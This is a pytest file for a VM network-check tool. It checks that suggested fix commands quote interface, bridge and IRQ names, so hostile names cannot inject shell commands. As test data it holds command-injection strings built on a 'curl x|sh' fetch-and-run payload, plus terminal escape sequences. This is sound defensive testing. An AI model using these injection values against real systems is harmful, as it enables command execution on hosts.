"""The `fix` of every check that builds a command from a name the facts gave (guestcheck/checks/*): the name is
one shell word, so a hostile interface, bridge or IRQ name never becomes a command of its own."""

from __future__ import annotations

import re
import shlex

import pytest

from guestcheck.checks import run_checks
from guestcheck.doctor import build_report
from guestcheck.facts import (
    Bridge,
    BridgePort,
    Channels,
    Facts,
    Feature,
    Host,
    Nic,
    NicIrq,
    NicSteering,
    Path,
    Route,
    Softirq,
    SoftnetCpu,
    Virt,
)
from guestcheck.render.human import render
from tests.judged import with_recorded

PAYLOAD = "curl x|sh"
HOSTILE = ["eth0;curl x|sh;#", "e'$(curl x|sh)'", "eth0\ncurl x|sh", "`curl x|sh`", "eth0 && curl x|sh"]


def hostile_facts(name: str, hypervisor: str = "kvm") -> Facts:
    """One NIC, one bridge, one route and one IRQ named `name`, each tripping a check whose fix names it."""
    nic = Nic(name, kind="paravirtual", driver="virtio_net", operstate="up", rx_queues=1, tx_queues=2,
              channels=Channels(max_combined=1, combined=1),
              features={"rx-gro": Feature(on=False, fixed=False), "tx-tcp-segmentation": Feature(False, False)})
    steering = NicSteering(name, rx_queues=1, tx_queues=2, rps_cpus={"rx-0": "0"}, xps_cpus={"tx-0": "0", "tx-1": "0"},
                           irqs=[NicIrq(name, f"{name}-input.0", affinity="0"),
                                 NicIrq(name, f"{name}-output.1", affinity="0")])
    return Facts(
        host=Host(vcpus=2), virt=Virt(hypervisor=hypervisor), nics=[nic],
        softirq=Softirq(cpus=[SoftnetCpu(0), SoftnetCpu(1)], nics=[steering], irqbalance=False),
        path=Path(routes=[Route("ipv4", name, name, mtu=9000, dev_mtu=1500)]),
        bridges=[Bridge(name, stp_state=1, forward_delay_s=15.0, ports=[BridgePort(name, "listening")]),
                 Bridge(f"{name}2", stp_state=0, forward_delay_s=2.0)],
    )


def outside_quotes(fix: str) -> str:
    """What a shell reads unquoted: '...' runs and the "'" that shlex.quote puts between them taken out
    (after the prose's own apostrophes: "host's")."""
    text = re.sub(r"(?<=[a-z])'(?=[st]\b)", "", fix)
    out, i = [], 0
    while i < len(text):
        if text.startswith("\"'\"", i):
            i += 3
        elif text[i] == "'":
            end = text.find("'", i + 1)
            i = len(text) if end < 0 else end + 1
        else:
            out.append(text[i])
            i += 1
    return "".join(out)


@pytest.mark.parametrize("name", HOSTILE)
@pytest.mark.parametrize("hypervisor", ["kvm", "firecracker"])
def test_no_hostile_name_escapes_its_quotes_in_any_fix(name, hypervisor):
    findings, _ = run_checks(*with_recorded(hostile_facts(name, hypervisor)))
    ids = {f.id for f in findings if f.subject == name and f.fix}
    assert ids >= {"OFFLOAD-GRO-OFF", "OFFLOAD-TSO-OFF", "SOFTIRQ-NO-RPS", "SOFTIRQ-NO-XPS", "BRIDGE-STP-ON",
                   "PATH-MTU-MISMATCH"}, ids
    # an IRQ "number" that is not one names no /proc/irq file at all: the finding stands, with no command
    (affinity,) = [f for f in findings if f.id == "IRQ-AFFINITY-ONE-CPU"]
    assert affinity.fix == ""
    for f in findings:
        assert PAYLOAD not in outside_quotes(f.fix), (f.id, f.fix)


@pytest.mark.parametrize("name", HOSTILE)
def test_pure_commands_give_the_name_back_as_one_word(name):
    findings, _ = run_checks(*with_recorded(hostile_facts(name)))
    fixes = {f.id: f.fix for f in findings}
    assert shlex.split(fixes["OFFLOAD-GRO-OFF"]) == ["ethtool", "-K", name, "gro", "on"]
    facts = hostile_facts(name)
    facts.nics[0].channels = Channels(max_combined=4, combined=1)
    queues = {f.id: f.fix for f in run_checks(*with_recorded(facts))[0]}
    assert shlex.split(queues["QUEUES-FEWER-THAN-VCPUS"]) == ["ethtool", "-L", name, "combined", "2"]
    words = shlex.split(fixes["BRIDGE-STP-ON"])
    assert words[:3] == ["ip", "link", "set"] and words[3] == name
    mtu = fixes["PATH-MTU-MISMATCH"].split("  (or")[0]
    assert shlex.split(mtu) == ["ip", "route", "change", "default", "via", name, "dev", name, "mtu", "1500"]


def test_config_snippets_use_a_placeholder_for_a_name_that_needs_quoting():
    fix = {f.id: f.fix for f in run_checks(*with_recorded(hostile_facts("br;x")))[0]}
    hint = {f.id: f.hint for f in run_checks(*with_recorded(hostile_facts("br;x")))[0]}
    assert "iface BR)" in hint["BRIDGE-STP-ON"] and "<bridge name='BR'" in hint["BRIDGE-STP-ON"]
    assert hint["BRIDGE-STP-ON"].endswith("(BR: this bridge, whose name needs quoting)")
    # RPS is `guestcheck tune rps`, the name quoted; live only where no file can be named after the interface
    assert fix["SOFTIRQ-NO-RPS"] == "guestcheck tune rps 'br;x' --no-persist"
    assert "echo 3 > '/sys/class/net/br;x/queues/rx-0/rps_cpus'" in hint["SOFTIRQ-NO-RPS"]
    plain = {f.id: f.fix for f in run_checks(*with_recorded(hostile_facts("br0")))[0]}
    plain_hint = {f.id: f.hint for f in run_checks(*with_recorded(hostile_facts("br0")))[0]}
    assert "iface br0)" in plain_hint["BRIDGE-STP-ON"] and plain["SOFTIRQ-NO-RPS"] == "guestcheck tune rps br0"


@pytest.mark.parametrize("name", [*HOSTILE, "eth0\x1b]0;title\x07", "eth0\x1b[2J\u202e"])
def test_the_human_report_shows_control_characters_and_never_sends_them(name):
    text = render(build_report(hostile_facts(name)), verbose=True)
    assert all(line.isprintable() for line in text.splitlines()), text
    assert text.count("\n") == len(text.splitlines())
